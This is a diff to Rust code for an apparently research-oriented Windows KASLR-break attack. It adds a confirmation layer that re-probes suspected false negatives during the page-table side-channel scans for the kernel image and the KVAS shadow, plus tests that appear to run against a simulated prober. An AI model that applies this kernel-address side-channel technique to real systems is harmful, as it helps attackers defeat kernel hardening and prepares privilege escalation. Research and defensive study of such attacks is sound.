@@ -15,6 +15,7 @@ use avx_os::windows::{
 
 use crate::adaptive::AdaptiveSampler;
 use crate::calibrate::Threshold;
+use crate::decision::{ConfirmConfig, Confirmer, RunTracker};
 use crate::primitives::{PageTableAttack, SweepClassification};
 use crate::prober::Prober;
 use crate::recal::{RecalConfig, Recalibrating};
@@ -48,6 +49,7 @@ pub struct WindowsKaslrScan {
 #[derive(Clone, Copy, Debug)]
 pub struct WindowsKaslrAttack {
     attack: PageTableAttack,
+    confirm: Option<ConfirmConfig>,
 }
 
 impl WindowsKaslrAttack {
@@ -56,7 +58,19 @@ impl WindowsKaslrAttack {
     pub fn new(threshold: Threshold) -> Self {
         Self {
             attack: PageTableAttack::new(threshold),
+            confirm: None,
         }
+    }
+
+    /// Routes both region scans through the confirmation decision layer
+    /// ([`crate::decision`]): a slot that would break a promising run
+    /// is re-probed before the run is reset, so a single false negative
+    /// inside the true kernel run no longer forces a sweep of all
+    /// 262144 candidates.
+    #[must_use]
+    pub fn with_confirmation(mut self, config: ConfirmConfig) -> Self {
+        self.confirm = Some(config);
+        self
     }
 
     /// Routes both region scans through the adaptive sequential engine.
@@ -136,6 +150,10 @@ impl WindowsKaslrAttack {
         let mut candidates = 0u64;
         let mut refits = 0u32;
         let mut driver = self.driver();
+        let confirmer = self.confirm.map(|c| Confirmer::new(&self.attack, c));
+        let mut tracker = self
+            .confirm
+            .map(|c| RunTracker::new(WIN_KERNEL_IMAGE_SLOTS, c.gap_tolerance));
         'sweep: for chunk in region.chunks(Self::SCAN_CHUNK_SLOTS) {
             let sweep = self.sweep_chunk(&mut driver, p, &chunk);
             p.spend(PER_SLOT_OVERHEAD_CYCLES * chunk.count);
@@ -144,22 +162,52 @@ impl WindowsKaslrAttack {
             // The whole chunk was probed even when the run confirms
             // mid-chunk, so it counts toward probes-per-address whole.
             candidates += chunk.count;
-            for mapped in sweep.mapped {
-                if mapped {
-                    mapped_slots += 1;
-                    if run_start.is_none() {
-                        run_start = Some(slot);
+            match (&confirmer, &mut tracker) {
+                (Some(confirmer), Some(tracker)) => {
+                    // Decision-layer path: a breaking slot inside a
+                    // promising run is re-tested before the tracker
+                    // sees its verdict (one confirmed false negative is
+                    // a tolerated gap, not a reset).
+                    for mapped in sweep.mapped {
+                        let verdict = if mapped {
+                            true
+                        } else if tracker.in_run() {
+                            let addr = start.wrapping_add(slot * WIN_KASLR_ALIGN);
+                            let retest = confirmer.confirm_mapped(p, addr);
+                            probes += retest.probes;
+                            retest.confirmed
+                        } else {
+                            false
+                        };
+                        if verdict {
+                            mapped_slots += 1;
+                        }
+                        if let Some(run) = tracker.observe(slot, verdict) {
+                            found = Some(run);
+                            break 'sweep;
+                        }
+                        slot += 1;
                     }
-                    run_len += 1;
-                    if run_len >= WIN_KERNEL_IMAGE_SLOTS {
-                        found = run_start;
-                        break 'sweep;
-                    }
-                } else {
-                    run_start = None;
-                    run_len = 0;
                 }
-                slot += 1;
+                _ => {
+                    for mapped in sweep.mapped {
+                        if mapped {
+                            mapped_slots += 1;
+                            if run_start.is_none() {
+                                run_start = Some(slot);
+                            }
+                            run_len += 1;
+                            if run_len >= WIN_KERNEL_IMAGE_SLOTS {
+                                found = run_start;
+                                break 'sweep;
+                            }
+                        } else {
+                            run_start = None;
+                            run_len = 0;
+                        }
+                        slot += 1;
+                    }
+                }
             }
         }
 
@@ -189,11 +237,23 @@ impl WindowsKaslrAttack {
         let mut run_len = 0u64;
         let mut index = 0u64;
         let mut driver = self.driver();
+        let confirmer = self.confirm.map(|c| Confirmer::new(&self.attack, c));
         for chunk in AddrRange::pages(window_start, pages).chunks(Self::SCAN_CHUNK_SLOTS) {
             let sweep = self.sweep_chunk(&mut driver, p, &chunk);
             p.spend(PER_SLOT_OVERHEAD_CYCLES * chunk.count);
             for mapped in sweep.mapped {
-                if mapped {
+                // The shadow run must match *exactly*, so no gap is ever
+                // tolerated here — but an unmapped verdict that would
+                // terminate (or corrupt) a candidate run is re-tested
+                // through the decision layer before it is believed.
+                let verdict = match (&confirmer, mapped, run_len > 0) {
+                    (Some(confirmer), false, true) => {
+                        let addr = window_start.wrapping_add(index * 4096);
+                        confirmer.confirm_mapped(p, addr).confirmed
+                    }
+                    _ => mapped,
+                };
+                if verdict {
                     if run_start.is_none() {
                         run_start = Some(index);
                     }
@@ -352,6 +412,82 @@ mod tests {
         let window = VirtAddr::new_truncate(truth.kernel_base.as_u64() - 8 * 4096);
         let shadow = attack.find_kvas_shadow(&mut p, window, 128);
         assert_eq!(shadow, None, "kernel run is 512 pages, not 3");
+    }
+
+    #[test]
+    fn kernel_run_straddling_a_chunk_seam_is_found() {
+        // Slots 1022..1027 put the 5-slot image across the
+        // SCAN_CHUNK_SLOTS = 1024 boundary: run state must carry over
+        // the seam, with and without the decision layer.
+        let seam_slot = WindowsKaslrAttack::SCAN_CHUNK_SLOTS - 2;
+        let config = WindowsConfig {
+            fixed_slot: Some(seam_slot),
+            ..WindowsConfig::default()
+        };
+        let (mut p, truth) = prober(config.clone(), CpuProfile::alder_lake_i5_12400f(), false);
+        let th = calibrated(&mut p, truth.user_scratch);
+        let scan = WindowsKaslrAttack::new(th).find_kernel_region(&mut p);
+        assert_eq!(scan.slot, Some(seam_slot));
+        assert_eq!(scan.base, Some(truth.kernel_base));
+
+        let (mut p, truth) = prober(config, CpuProfile::alder_lake_i5_12400f(), false);
+        let th = calibrated(&mut p, truth.user_scratch);
+        let confirmed = WindowsKaslrAttack::new(th)
+            .with_confirmation(ConfirmConfig::default())
+            .find_kernel_region(&mut p);
+        assert_eq!(confirmed.slot, Some(seam_slot), "decision layer agrees");
+        assert_eq!(confirmed.base, Some(truth.kernel_base));
+    }
+
+    #[test]
+    fn kvas_run_ending_at_the_window_edge_is_found() {
+        // The exact-length check must also fire when the 3-page shadow
+        // run terminates at the window boundary (no trailing unmapped
+        // page inside the window to close it).
+        let (mut p, truth) = prober(
+            WindowsConfig {
+                version: WindowsVersion::V1709,
+                kvas: true,
+                fixed_slot: Some(81_000),
+                seed: 4,
+            },
+            CpuProfile::alder_lake_i5_12400f(),
+            false,
+        );
+        let th = calibrated(&mut p, truth.user_scratch);
+        let attack = WindowsKaslrAttack::new(th);
+        let shadow_truth = truth.shadow.unwrap();
+        let lead_pages = 8u64;
+        let window = VirtAddr::new_truncate(shadow_truth.as_u64() - lead_pages * 4096);
+        let shadow = attack
+            .find_kvas_shadow(&mut p, window, lead_pages + KVAS_SHADOW_PAGES)
+            .expect("run ending at window edge found");
+        assert_eq!(shadow, shadow_truth);
+
+        // One page short, the run is truncated to length 2 → rejected.
+        let shadow = attack.find_kvas_shadow(&mut p, window, lead_pages + KVAS_SHADOW_PAGES - 1);
+        assert_eq!(shadow, None, "truncated run must not match");
+    }
+
+    #[test]
+    fn confirmed_kvas_scan_keeps_the_quiet_answer() {
+        let (mut p, truth) = prober(
+            WindowsConfig {
+                version: WindowsVersion::V1709,
+                kvas: true,
+                fixed_slot: Some(77_000),
+                seed: 3,
+            },
+            CpuProfile::skylake_i7_6600u(),
+            false,
+        );
+        let th = calibrated(&mut p, truth.user_scratch);
+        let attack = WindowsKaslrAttack::new(th).with_confirmation(ConfirmConfig::default());
+        let window = VirtAddr::new_truncate(truth.kernel_base.as_u64() - 64 * 4096);
+        let shadow = attack
+            .find_kvas_shadow(&mut p, window, 64 + 1024)
+            .expect("shadow found with confirmation on");
+        assert_eq!(shadow, truth.shadow.unwrap());
     }
 
     #[test]
